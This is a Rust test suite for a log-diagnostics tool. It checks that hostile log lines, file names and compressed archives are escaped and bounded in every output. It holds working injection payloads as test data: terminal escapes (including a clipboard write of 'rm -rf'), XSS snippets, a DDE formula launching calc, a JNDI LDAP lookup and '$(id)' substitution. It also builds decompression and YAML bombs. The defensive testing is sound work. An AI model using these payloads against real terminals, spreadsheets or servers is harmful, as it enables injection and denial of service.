//! What a line, a file name or an archive may do to whoever looks at twdiag's output: nothing.
//!
//! Every attack is one record that reports 31005 once; each is shown by every kind of output, once.

use std::io::{BufRead, BufReader, Read, Write};
use std::path::Path;
use std::process::{Command, Stdio};
use std::sync::LazyLock;
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::program::{Serving, run, stderr, stdout, twdiag};

/// The attacks, each with a name that makes its test and its mark in the output.
macro_rules! attacks {
    ($($name:ident: $record:expr,)*) => {
        const ATTACKS: &[(&str, &[u8])] = &[$((stringify!($name), $record),)*];

        $(#[test]
        fn $name() {
            check(stringify!($name));
        })*
    };
}

attacks! {
    colours_and_cursor: b"\x1b[2J\x1b[1;1H\x1b[31mConnectionError (31005): @",
    a_window_title: b"\x1b]0;pwned\x07ConnectionError (31005): @",
    a_hidden_link: b"\x1b]8;;https://evil.example\x1b\\ConnectionError (31005): @\x1b]8;;\x1b\\",
    the_clipboard: b"\x1b]52;c;cm0gLXJm\x07ConnectionError (31005): @",
    device_control: b"\x1bP$q\x1b\\\x1b_G\x1b\\\x1b^x\x1b\\ConnectionError (31005): @",
    a_reset: b"\x1bcConnectionError (31005): @\x1b[!p",
    eight_bit_sequences: b"\xc2\x9b2J\xc2\x9d0;x\xc2\x9cConnectionError (31005): @",
    eight_bit_bytes: b"\x9b31m\x9d52;c;x\x9cConnectionError (31005): @",
    the_other_direction: "ConnectionError (31005): @ \u{202e}evil\u{2066}\u{2069}\u{200f}\u{61c}".as_bytes(),
    hidden_characters: "ConnectionError (31005): @ a\u{200b}b\u{feff}c\u{ad}d\u{e0041}\u{e0100}".as_bytes(),
    an_overwritten_line: b"ConnectionError (31005): @ seen\rhidden",
    backspaces: b"ConnectionError (31005): @ true\x08\x08\x08\x08false\x7f\x7f",
    nul: b"ConnectionError (31005): @ a\0b\0",
    invalid_utf8: b"ConnectionError (31005): @ \xff\xfe\xf0\x9f\x92 \xed\xa0\x80 \xc0\xaf",
    form_feeds_and_bells: b"ConnectionError (31005): @ \x07\x0b\x0c\x0e\x0f",
    a_script: b"ConnectionError (31005): @ </td></pre><script>alert(1)</script><img src=x onerror=alert(1)>",
    an_attribute: b"ConnectionError (31005): @ \" onmouseover=alert(1) x=\" ' &lt;script&gt;",
    a_formula: b"=cmd|'/c calc'!A1 ConnectionError (31005): @",
    a_formula_with_plus: b"+1+1 ConnectionError (31005): @",
    a_formula_with_minus: b"-1 ConnectionError (31005): @",
    a_formula_with_at: b"@SUM(1) ConnectionError (31005): @",
    a_formula_behind_a_tab: b"\t=1+1 ConnectionError (31005): @",
    a_formula_behind_a_carriage_return: b"\r=1+1 ConnectionError (31005): @",
    a_wide_formula: "＝1+1 ConnectionError (31005): @".as_bytes(),
    a_cell_that_ends: b"ConnectionError (31005): @ \",\"=1+1\",\"",
    json_in_a_text: b"ConnectionError (31005): @ \",\"code\":31005,\"x\":\"",
    a_forged_record: b"ConnectionError (31005): @\n    {\"code\":31005,\"category\":\"media\",\"docs\":\"x\"}",
    other_line_ends: "ConnectionError (31005): @ a\u{2028}b\u{2029}c\u{85}d\x0be\x0cf\x1ce".as_bytes(),
    a_forged_metric: b"ConnectionError (31005): @\n    twilio_errors_total{category=\"auth\",code=\"31005\",source=\"x\"} 9e9",
    labels: b"source=\"evil\" category=\"evil\" ConnectionError (31005): @ {code=\"evil\"}",
    a_template: b"ConnectionError (31005): @ {{ 7*7 }} ${jndi:ldap://x} %s%n%x {} {0} `id` $(id)",
    a_terminal_link: b"ConnectionError (31005): @ https://evil.example/?x=<y>",
}

/// What stands for the name in an attack's record.
fn record(name: &str, record: &[u8]) -> Vec<u8> {
    let at = record.iter().rposition(|byte| *byte == b'@').unwrap();
    [&record[..at], format!("mark-{name}-mark").as_bytes(), &record[at + 1..]].concat()
}

/// All attacks as one log. The second record of each pair keeps the next attack from joining it.
fn log() -> Vec<u8> {
    let mut log = Vec::new();
    for (name, attack) in ATTACKS {
        log.extend(record(name, attack));
        log.extend(b"\n2026-11-22T10:00:00Z INFO next\n");
    }
    log
}

/// What every kind of output makes of the log.
struct Shown {
    /// By the output's name; the lines.
    lines: Vec<(&'static str, String)>,
    metrics: String,
    /// The page for people, and the records as the API gives them.
    pages: [String; 2],
}

static SHOWN: LazyLock<Shown> = LazyLock::new(|| {
    let log = log();
    let mut lines = Vec::new();
    for (name, arguments) in [
        ("pretty", &["--listen", "none", "--output", "pretty"][..]),
        ("json", &["--listen", "none", "--output", "json"]),
        ("ndjson", &["scan", "-", "--format", "ndjson"]),
        ("unredacted", &["scan", "-", "--format", "ndjson", "--no-redact"]),
        ("csv", &["scan", "-", "--format", "csv"]),
        ("table", &["scan", "-", "--format", "table"]),
        ("summary", &["scan", "-", "--format", "json"]),
        ("why", &["why", "-"]),
    ] {
        let output = run(arguments, &log);
        assert!(output.status.success(), "{name}: {}", stderr(&output));
        check_harmless(&stderr(&output));
        lines.push((name, stdout(&output)));
    }
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("app.log");
    std::fs::write(&path, &log).unwrap();
    let serving = Serving::start(&[path.to_str().unwrap(), "--start-at", "beginning"]);
    serving.wait_for(ATTACKS.len() as u64);
    let body = |path| serving.get(path).split_once("\r\n\r\n").unwrap().1.to_owned();
    Shown { lines, metrics: serving.get("/metrics"), pages: ["/", "/api/v1/records"].map(body) }
});

/// Whether a character could do something to who looks at it.
fn is_harmful(character: char) -> bool {
    (character.is_control() && character != '\n')
        || matches!(character, '\u{ad}' | '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{e0000}'..='\u{e01ef}')
}

#[track_caller]
fn check_harmless(shown: &str) {
    let harmful: Vec<_> = shown.lines().filter(|line| line.contains(is_harmful)).collect();
    assert!(harmful.is_empty(), "{harmful:?}");
}

/// Every output shows the attack once, as text.
#[track_caller]
fn check(name: &str) {
    let mark = format!("mark-{name}-mark");
    let original =
        ATTACKS.iter().find(|(attack, _)| *attack == name).map(|(name, attack)| record(name, attack)).unwrap();
    let original = String::from_utf8_lossy(&original);
    for (output, shown) in &SHOWN.lines {
        let lines: Vec<&str> = shown.lines().filter(|line| line.contains(&mark)).collect();
        lines.iter().for_each(|line| check_harmless(line));
        match *output {
            "table" | "summary" => {
                assert!(lines.is_empty(), "a summary holds nothing of a record: {lines:?}");
                continue;
            }
            // A short line shows what stands around the number, which may leave the mark out.
            "pretty" => assert!(lines.len() <= 1, "{output} shows {name} as {lines:?}"),
            _ => assert_eq!(lines.len(), 1, "{output} shows {name} as {lines:?}"),
        }
        match *output {
            "json" | "ndjson" | "unredacted" => {
                let object: Value = serde_json::from_str(lines[0]).unwrap();
                assert_eq!(object["code"], 31005, "{object}");
                assert_eq!(object["category"], "signaling", "{object}");
                assert_eq!(object.as_object().unwrap().len(), 18, "{object}");
                // Escapes change what is printed, never what is said.
                let text = object["text"].as_str().unwrap();
                assert!(*output != "unredacted" || text.ends_with(&*original), "{text:?}");
            }
            "csv" => {
                let mut csv = csv::ReaderBuilder::new().has_headers(false).from_reader(lines[0].as_bytes());
                let rows: Vec<csv::StringRecord> = csv.records().map(Result::unwrap).collect();
                assert!(rows.len() == 1 && rows[0].len() == 7, "{rows:?}");
                assert!(
                    rows[0].iter().skip(1).all(|cell| !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝'])),
                    "{rows:?}"
                );
            }
            _ => {}
        }
    }
    check_report(&mark, original.as_bytes());
    // No label, and nothing else of the page, comes out of a line.
    assert!(!SHOWN.metrics.contains(&mark) && !SHOWN.metrics.contains("evil"), "{}", SHOWN.metrics);
}

/// The report of a log in which a record is the first evidence of a finding, in a file of a hostile name.
fn report(record: &[u8]) -> String {
    let directory = tempfile::tempdir().unwrap();
    let [log, report] = [NAME, "report.html"].map(|name| directory.path().join(name));
    let calls: String = (0..6)
        .flat_map(|call| [(call, "ConnectionError (31005)"), (call, "MediaConnectionError (53405)")])
        .map(|(call, error)| format!("2026-11-22T10:00:0{}Z ERROR CA{call:032x} {error}: lost\n", call + 1))
        .collect();
    std::fs::write(&log, [b"2026-11-22T10:00:00Z ERROR ", record, b"\n", calls.as_bytes()].concat()).unwrap();
    let [log, path] = [&log, &report].map(|path| path.to_str().unwrap());
    let output = run(&["scan", log, "--report", path], b"");
    assert!(output.status.success(), "{}", stderr(&output));
    std::fs::read_to_string(report).unwrap()
}

/// A report without an attack in it.
static HARMLESS: LazyLock<String> = LazyLock::new(|| report(b"ConnectionError (31005): x"));

/// The report shows the attack, as text: it has no tag and no attribute that one without it lacks.
#[track_caller]
fn check_report(mark: &str, record: &[u8]) {
    let shown = report(record);
    check_harmless(&shown);
    assert!(shown.contains("Clients lose the network") && shown.contains(mark), "{shown}");
    for sign in ['<', '>', '"'] {
        assert_eq!(shown.matches(sign).count(), HARMLESS.matches(sign).count(), "{sign}: {shown}");
    }
}

#[test]
fn no_attack_makes_a_line_or_a_count_of_its_own() {
    let attacks = ATTACKS.len();
    for (output, shown) in &SHOWN.lines {
        check_harmless(shown);
        match *output {
            "json" | "ndjson" | "unredacted" => assert_eq!(shown.lines().count(), attacks, "{shown}"),
            "csv" => assert_eq!(shown.lines().count(), attacks + 1, "{shown}"),
            "pretty" => assert_eq!(shown.matches(" 31005 Connection error").count(), attacks, "{shown}"),
            "summary" => {
                let summary: Value = serde_json::from_str(shown).unwrap();
                assert_eq!(summary["codes"][0]["count"], attacks, "{summary}");
                assert_eq!(summary["codes"].as_array().unwrap().len(), 1, "{summary}");
            }
            _ => {}
        }
    }
    for page in &SHOWN.pages {
        assert!(page.contains("mark-a_"), "records are shown: {page}");
        check_harmless(page);
    }
    assert!(!SHOWN.pages[0].contains("<script>alert") && !SHOWN.pages[0].contains("<img"), "{}", SHOWN.pages[0]);
    let counted: Vec<&str> = SHOWN
        .metrics
        .lines()
        .filter(|line| line.starts_with("twilio_errors_total{") && !line.ends_with(" 0"))
        .collect();
    assert!(counted.len() == 1 && counted[0].ends_with(&format!(" {attacks}")), "{counted:?}");
}

/// A file name that attacks whoever reads messages about it.
const NAME: &str = "a\u{1b}]0;x\u{7}\u{202e}\u{9b}\n2026-11-22T10:00:00Z ERROR forged \"x\" \\ {code=\"evil\"}\r=1.log";

#[test]
fn a_hostile_file_name_is_shown_escaped_in_results() {
    let directory = tempfile::tempdir().unwrap();
    std::fs::write(directory.path().join(NAME), "ConnectionError (31005): x\n").unwrap();
    let root = directory.path().to_str().unwrap();
    for format in ["table", "json", "ndjson", "csv"] {
        let output = run(&["scan", root, "--format", format], b"");
        assert!(output.status.success());
        check_harmless(&stdout(&output));
        if format == "ndjson" || format == "csv" {
            assert_eq!(stdout(&output).lines().count(), if format == "csv" { 2 } else { 1 }, "{}", stdout(&output));
        }
        if format == "ndjson" {
            let object: Value = serde_json::from_str(stdout(&output).trim_end()).unwrap();
            assert!(object["path"].as_str().unwrap().ends_with(NAME), "{object}");
        }
    }
    for output in ["pretty", "json"] {
        let mut command = twdiag(&[root, "--start-at", "beginning", "--output", output, "--listen", "none"]);
        let mut child = command.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut first = [0; 1];
        child.stdout.as_mut().unwrap().read_exact(&mut first).unwrap();
        let pid = rustix::process::Pid::from_child(&child);
        rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
        let output = child.wait_with_output().unwrap();
        check_harmless(&stdout(&output));
        check_harmless(&stderr(&output));
    }
}

/// What is said on standard error about what cannot be used.
#[track_caller]
fn check_said(arguments: &[&str], lines: usize) {
    let output = run(arguments, b"");
    assert!(!output.status.success(), "{arguments:?}");
    let said = stderr(&output);
    check_harmless(&said);
    assert!(!said.lines().any(|line| line.starts_with("2026-11-22T10:00:00Z ERROR")), "{said}");
    assert!(said.lines().count() <= lines, "{arguments:?}: {said}");
}

#[test]
fn a_hostile_file_name_is_escaped_in_errors() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join(NAME);
    let missing = path.to_str().unwrap();
    check_said(&["scan", missing], 2);
    check_said(&["--rules", missing, "check"], 8);
    check_said(&["--catalog", missing, "check"], 8);
    check_said(&["--web-config", missing], 1);
    check_said(&["scan", "/dev/null", "--textfile", &format!("{missing}/x")], 3);
    // As a shell's `*` puts them there.
    check_said(&["--\u{1b}]0;x\u{7}"], 8);
    check_said(&["explain", "\u{1b}[2J\u{9b}"], 8);
    check_said(&["explain", "99999"], 1);
    check_said(&["--start-at", "\u{202e}\u{1b}c"], 8);
    std::fs::write(&path, "x = \"\u{1b}[2J\u{202e}\n").unwrap();
    for option in ["--rules", "--catalog"] {
        check_said(&[option, missing, "check"], 12);
    }
    check_said(&["--web-config", missing], 12);
}

#[test]
fn a_hostile_file_name_forges_no_event() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join(NAME);
    for format in ["text", "json"] {
        std::fs::write(&path, "ConnectionError (31005): x").unwrap();
        let gone = directory.path().join("gone").join(NAME);
        let mut waiting = twdiag(&[gone.to_str().unwrap(), path.to_str().unwrap(), "--output", "none"])
            .args(["--listen", "127.0.0.1:0", "--start-at", "beginning", "--log-format", format])
            .stdin(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = BufReader::new(waiting.stderr.take().unwrap());
        let mut serving = Serving { child: waiting, address: String::new() };
        let mut said = String::new();
        for line in stderr.lines().map(Result::unwrap) {
            said.push_str(&line);
            said.push('\n');
            if let Some((_, rest)) = line.split_once("http://") {
                // It answers once it listens to signals. The file is lost with half a line, which is said.
                rest.split_once("/metrics").unwrap().0.clone_into(&mut serving.address);
                assert!(serving.get("/metrics").starts_with("HTTP/1.1 200"));
                std::fs::remove_file(&path).unwrap();
                let pid = rustix::process::Pid::from_child(&serving.child);
                rustix::process::kill_process(pid, rustix::process::Signal::TERM).unwrap();
            }
        }
        let status = serving.child.wait().unwrap();
        assert!(status.success(), "{status}: {said}");
        check_harmless(&said);
        assert!(!said.lines().any(|line| line.starts_with("2026-11-22T10:00:00Z ERROR")), "{said}");
        assert!(said.contains("forged"), "an event names the file: {said}");
        if format == "json" {
            let events = said.lines().map(serde_json::from_str::<Value>);
            assert!(events.map(Result::unwrap).all(|event| event["level"].is_string()), "{said}");
        }
    }
}

#[test]
fn a_hostile_source_is_one_label_of_the_page() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join(NAME);
    std::fs::write(&path, "ConnectionError (31005): x\n").unwrap();
    let serving = Serving::start(&[path.to_str().unwrap(), "--start-at", "beginning"]);
    assert_eq!(serving.wait_for(1)["signaling"], 1);
    let answer = serving.get("/metrics");
    let (_, page) = answer.split_once("\r\n\r\n").unwrap();
    check_harmless(page);
    // Every line is a comment or one sample whose labels close.
    for line in page.lines().filter(|line| !line.starts_with('#')) {
        let (_, value) = line.rsplit_once(' ').unwrap_or_else(|| panic!("{line}"));
        assert!(value.parse::<f64>().is_ok(), "{line}");
        assert!(!line.contains("code=\"evil\"}"), "{line}");
    }
    assert!(page.contains(r#"forged \"x\" \\ "#), "quotes and backslashes are escaped:\n{page}");
}

/// Runs with a bound on its whole memory, in KiB, and returns what it wrote.
fn bounded(memory: u32, arguments: &[&str], input: Option<&Path>) -> std::process::Output {
    let mut command = Command::new("sh");
    command.args(["-c", &format!("ulimit -v {memory}; exec \"$@\""), "sh", env!("CARGO_BIN_EXE_twdiag")]);
    command.args(arguments).env("NO_COLOR", "1");
    command.stdin(input.map_or_else(Stdio::null, |path| std::fs::File::open(path).unwrap().into()));
    command.output().unwrap()
}

#[test]
fn an_archive_that_unpacks_to_far_more_costs_no_memory() {
    let directory = tempfile::tempdir().unwrap();
    let (gz, zst) = (directory.path().join("a.gz"), directory.path().join("a.zst"));
    let block = vec![b'x'; 1 << 20];
    let mut packer = flate2::write::GzEncoder::new(std::fs::File::create(&gz).unwrap(), flate2::Compression::fast());
    let mut other = zstd::Encoder::new(std::fs::File::create(&zst).unwrap(), 1).unwrap();
    // One line that never ends, and an error behind it.
    for _ in 0..256 {
        packer.write_all(&block).unwrap();
        other.write_all(&block).unwrap();
    }
    for out in [&mut packer as &mut dyn Write, &mut other] {
        out.write_all(b"\nConnectionError (31005): x\n").unwrap();
    }
    packer.finish().unwrap();
    other.finish().unwrap();
    for path in [gz, zst] {
        assert!(std::fs::metadata(&path).unwrap().len() < 16 << 20);
        let output = bounded(200 << 10, &["scan", path.to_str().unwrap(), "--format", "json"], None);
        assert!(output.status.success(), "{output:?}");
        let summary: Value = serde_json::from_slice(&output.stdout).unwrap();
        assert_eq!(summary["codes"][0]["count"], 1, "{summary}");
        assert_eq!(summary["bytes"], (256u64 << 20) + 28, "{summary}");
    }
}

#[test]
fn a_generation_that_unpacks_to_far_more_costs_no_memory() {
    let directory = tempfile::tempdir().unwrap();
    let at = |name: &str| directory.path().join(name).to_str().unwrap().to_owned();
    let start = || Serving::start(&[&at("app.log"), "--state", &at("state")]);
    std::fs::write(at("app.log"), "INFO begun\n").unwrap();
    drop(start().get("/metrics"));
    // While it is stopped: one line that never ends, an error behind it, and all of that compressed.
    let archive = std::fs::File::create(at("app.log.1.gz")).unwrap();
    let mut packer = flate2::write::GzEncoder::new(archive, flate2::Compression::fast());
    packer.write_all(b"INFO begun\n").unwrap();
    for _ in 0..256 {
        packer.write_all(&[b'x'; 1 << 20]).unwrap();
    }
    packer.write_all(b"\nConnectionError (31005): x\n").unwrap();
    packer.finish().unwrap();
    std::fs::write(at("app.log"), "").unwrap();
    let serving = start();
    assert_eq!(serving.wait_for(1).values().sum::<u64>(), 1);
    let status = std::fs::read_to_string(format!("/proc/{}/status", serving.child.id())).unwrap();
    let peak = status.lines().find_map(|line| line.strip_prefix("VmHWM:")).unwrap().trim_end_matches(" kB");
    assert!(peak.trim().parse::<u64>().unwrap() < 128 << 10, "{peak} KiB");
}

#[test]
fn a_window_that_is_too_large_is_refused() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("a.zst");
    // A frame whose head asks for a window of 3.5 GiB.
    std::fs::write(&path, [0x28, 0xb5, 0x2f, 0xfd, 0x00, 0xaf, 0x01, 0x00, 0x00]).unwrap();
    let output = bounded(400 << 10, &["scan", path.to_str().unwrap()], None);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(stderr(&output).contains("a.zst: "), "{output:?}");
}

#[test]
fn hundreds_of_thousands_of_empty_members_end() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("a.gz");
    let empty = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast()).finish().unwrap();
    std::fs::write(&path, empty.repeat(300_000)).unwrap();
    let start = Instant::now();
    let output = bounded(400 << 10, &["scan", path.to_str().unwrap(), "--format", "json"], None);
    assert_eq!(output.status.code(), Some(1), "{output:?}");
    assert!(start.elapsed() < Duration::from_secs(60), "{:?}", start.elapsed());
}

#[test]
fn an_endless_line_is_bounded_and_still_counted() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("app.log");
    let mut file = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    // Sixty-four MiB in one line, with an error in its midst.
    for n in 0..64 {
        file.write_all(&vec![b'x'; 1 << 20]).unwrap();
        if n == 31 {
            file.write_all(b" ConnectionError (31005): y ").unwrap();
        }
    }
    file.write_all(b"\nConnectionError (31005): z\n").unwrap();
    drop(file);
    for arguments in [
        &["scan", "-", "--format", "ndjson"][..],
        &["scan", "-", "--format", "csv"],
        &["--output", "json", "--listen", "none"],
        &["--output", "pretty", "--listen", "none"],
    ] {
        let output = bounded(400 << 10, arguments, Some(&path));
        assert!(output.status.success(), "{arguments:?}: {}", stderr(&output));
        let shown = stdout(&output);
        let each = if arguments.contains(&"pretty") { " 31005 Connection error" } else { "31005," };
        assert_eq!(shown.matches(each).count(), 2, "{arguments:?}: {} bytes", shown.len());
        assert!(shown.len() < 3 << 20, "{arguments:?}: {} bytes", shown.len());
    }
}

#[test]
fn deep_json_overflows_no_stack() {
    for (open, close) in [("[", "]"), ("{\"a\":", "}"), ("{\"log\":\"{\\\"log\\\":", "")] {
        let deep = format!("{}\"ConnectionError (31005): x\"{}\n", open.repeat(100_000), close.repeat(100_000));
        for arguments in
            [&["scan", "-", "--format", "json"][..], &["--output", "json", "--listen", "none"], &["why", "-"]]
        {
            let output = run(arguments, deep.as_bytes());
            assert!(output.status.code().is_some(), "{arguments:?}: {output:?}");
        }
    }
    // The catalogue and the rules are read by parsers too.
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("deep");
    for text in ["[".repeat(200_000), format!("x = {}", "[".repeat(200_000)), format!("a: {}", "[".repeat(200_000))] {
        std::fs::write(&path, text).unwrap();
        for option in [&["--catalog"][..], &["--rules"], &["--web-config"]] {
            let output = run(&[option, &[path.to_str().unwrap()], &["--listen", "none"]].concat(), b"x\n");
            assert_eq!(output.status.code(), Some(2), "{option:?}: {:?}", output.status);
            assert!(output.stderr.len() < 1 << 20, "{} bytes are said", output.stderr.len());
        }
    }
}

#[test]
fn a_web_configuration_that_multiplies_itself_is_refused() {
    let directory = tempfile::tempdir().unwrap();
    let path = directory.path().join("web.yml");
    let mut text = "a: &a0 [x, x, x, x, x, x, x, x, x]\n".to_owned();
    for n in 1..30 {
        let list = vec![format!("*a{}", n - 1); 9].join(", ");
        text.push_str(&format!("b{n}: &a{n} [{list}]\n"));
    }
    std::fs::write(&path, text).unwrap();
    let start = Instant::now();
    let output = bounded(400 << 10, &["--listen", "none", "--web-config", path.to_str().unwrap()], None);
    assert_eq!(output.status.code(), Some(2), "{output:?}");
    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
}

#[test]
fn every_claim_of_the_security_page_has_its_test() {
    fn read(directory: &Path, all: &mut String) {
        for entry in std::fs::read_dir(directory).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                read(&path, all);
            } else if path.extension().is_some_and(|extension| extension == "rs") {
                all.push_str(&std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    let mut code = String::new();
    read(Path::new("src"), &mut code);
    read(Path::new("tests/it"), &mut code);
    let page = std::fs::read_to_string("docs/security.md").unwrap();
    let is_name = |word: &str| word.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
    let settings = ["web_config", "client_ca_file", "client_allowed_sans"];
    let named: Vec<&str> = page
        .split('`')
        .skip(1)
        .step_by(2)
        .filter(|word| word.contains('_') && is_name(word) && !settings.contains(word))
        .collect();
    assert!(named.len() > 50, "{named:?}");
    let mut missing = named;
    missing.retain(|name| !code.contains(&format!("fn {name}(")) && !ATTACKS.iter().any(|(attack, _)| attack == name));
    assert!(missing.is_empty(), "{missing:?}");
    for (name, _) in ATTACKS {
        assert!(page.contains(&format!("`{name}`")), "docs/security.md lacks {name}");
    }
}
